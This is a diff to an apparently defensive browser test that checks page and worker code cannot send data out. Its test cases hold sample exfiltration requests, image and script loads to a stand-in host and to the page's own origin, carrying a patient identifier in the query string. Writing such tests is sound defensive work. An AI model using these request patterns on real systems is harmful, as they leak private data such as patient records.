@@ -57,12 +57,12 @@ test('code inside the page, or inside a worker of it, cannot send anything', asy
         ws.onopen = resolve;
         ws.onerror = reject;
       });
-    const image = () =>
+    const image = (source: string) => () =>
       new Promise((resolve, reject) => {
         const picture = new Image();
         picture.onload = resolve;
         picture.onerror = reject;
-        picture.src = 'https://example.org/leak.png?patient=1';
+        picture.src = source;
       });
     const script = (source: string) => () =>
       new Promise((resolve, reject) => {
@@ -96,7 +96,8 @@ test('code inside the page, or inside a worker of it, cannot send anything', asy
             source.onerror = reject;
           }),
       ),
-      image: await refused(image),
+      image: await refused(image('https://example.org/leak.png?patient=1')),
+      ownImage: await refused(image(`${to}icon.svg?leak=patient1`)),
       script: await refused(script('https://example.org/leak.js')),
       worker: await refused(inWorker),
     };
